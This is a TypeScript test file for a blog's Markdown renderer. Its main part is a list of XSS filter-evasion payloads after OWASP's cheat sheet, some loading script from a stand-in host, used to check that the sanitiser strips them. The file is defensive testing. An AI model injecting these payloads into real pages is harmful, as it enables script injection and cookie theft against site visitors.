import { parseDocument } from 'htmlparser2';
import { expect, test } from 'vitest';
import { renderMarkdown } from './markdown.ts';

/**
 * Payloads after OWASP's XSS Filter Evasion Cheat Sheet, as an editor could type them into a post:
 * raw HTML of every kind, script URLs in Markdown links and images (plain, encoded, cased, spaced),
 * event handlers, SVG, data: URIs, style expressions, malformed and nested tags.
 */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.example/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click]( javascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x"onerror="alert(1)](https://example.com/a.png)',
  '[x](https://example.com "title\\" onmouseover=\\"alert(1)")',
  '<a href="https://example.com" onclick="alert(1)">ok</a>',
  '[ref]: javascript:alert(1)\n\n[ref]',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
];

/** Every element and attribute of the output, parsed as a browser would (htmlparser2). */
function elements(html: string): Array<{ name: string; attribs: Record<string, string> }> {
  const found: Array<{ name: string; attribs: Record<string, string> }> = [];
  const walk = (nodes: unknown[]) => {
    for (const node of nodes as Array<{
      type: string;
      name?: string;
      attribs?: Record<string, string>;
      children?: unknown[];
    }>) {
      if (node.type === 'tag' || node.type === 'script' || node.type === 'style')
        found.push({ name: node.name!, attribs: node.attribs ?? {} });
      if (node.children) walk(node.children);
    }
  };
  walk(parseDocument(html).children);
  return found;
}

const ALLOWED_TAGS = new Set([
  'p',
  'a',
  'img',
  'picture',
  'source',
  'code',
  'pre',
  'em',
  'strong',
  'del',
  'ul',
  'ol',
  'li',
  'br',
  'h1',
  'h2',
  'h3',
  'h4',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'div',
  'blockquote',
  'hr',
  'input',
  'span',
  'sup',
  'section',
]);
const URL_ATTRIBUTES = ['href', 'src', 'srcset', 'action', 'formaction', 'background', 'data', 'poster', 'cite'];

test.each(PAYLOADS.map((payload) => [payload]))('sanitised: %s', (payload) => {
  const { html } = renderMarkdown(`Intro paragraph.\n\n${payload}\n\nAfter.`);
  for (const element of elements(html)) {
    expect(ALLOWED_TAGS.has(element.name), `<${element.name}> in ${html}`).toBe(true);
    for (const [name, value] of Object.entries(element.attribs)) {
      expect(name, html).not.toMatch(/^on/i);
      expect(name, html).not.toBe('style');
      expect(name, html).not.toBe('srcdoc');
      if (URL_ATTRIBUTES.includes(name)) {
        // Only web addresses, mail links, this site's paths and in-page anchors.
        expect(value.trim(), html).toMatch(/^(https?:|mailto:|\/(?!\/)|#|$)/i);
      }
    }
  }
  // Encoded or not, no script scheme survives anywhere in an attribute.
  expect(html).not.toMatch(/<[^>]+(javascript|vbscript|data):/i);
});

test('Markdown renders headings with anchors, tables, code and lists; raw HTML is shown as nothing', () => {
  const { html, toc } = renderMarkdown(
    '## First part\n\nSome *text* and `code`.\n\n### A detail\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n```js\nconst a = 1;\n```\n\n- one\n- two\n\n<b>bold</b>',
  );
  expect(html).toContain(
    '<h2 id="first-part">First part<a class="heading-anchor" href="#first-part" aria-label="Link to “First part”">#</a></h2>',
  );
  expect(html).toContain('<div class="table-wrap" tabindex="0" role="region" aria-label="Table"><table>');
  expect(html).toContain('<pre><code class="language-js">const a = 1;\n</code></pre>');
  expect(html).toContain('<li>one</li>');
  expect(html).not.toContain('<b>');
  expect(toc).toEqual([]);
  const long = renderMarkdown(['## One', '## Two', '### Two and a half', '## Three', '## Four'].join('\n\ntext\n\n'));
  expect(long.toc).toEqual([
    { id: 'one', text: 'One', depth: 2 },
    { id: 'two', text: 'Two', depth: 2 },
    { id: 'two-and-a-half', text: 'Two and a half', depth: 3 },
    { id: 'three', text: 'Three', depth: 2 },
    { id: 'four', text: 'Four', depth: 2 },
  ]);
});

test('uploaded images become responsive pictures with their dimensions; every image loads lazily', () => {
  const id = '0123456789abcdef0123456789abcdef';
  const { html } = renderMarkdown(
    `![A chart](/media/posts/${id})\n\n![Elsewhere](https://example.com/a.png)`,
    new Map([[id, { width: 1200, height: 600 }]]),
  );
  expect(html).toContain(
    `<picture><source type="image/avif" srcset="/media/posts/${id}-480.avif 480w, /media/posts/${id}-960.avif 960w, /media/posts/${id}-1200.avif 1200w"`,
  );
  expect(html).toContain(`<img src="/media/posts/${id}-1200.webp" alt="A chart" loading="lazy" decoding="async"`);
  expect(html).toContain('width="1200" height="600"></picture>');
  expect(html).toContain('<img src="https://example.com/a.png" alt="Elsewhere" loading="lazy" decoding="async">');
});

test('reading time counts the words a reader reads, at 200 a minute, never under a minute', () => {
  expect(renderMarkdown('Just a few words.').readingMinutes).toBe(1);
  expect(renderMarkdown(Array.from({ length: 1000 }, () => 'word').join(' ')).readingMinutes).toBe(5);
});
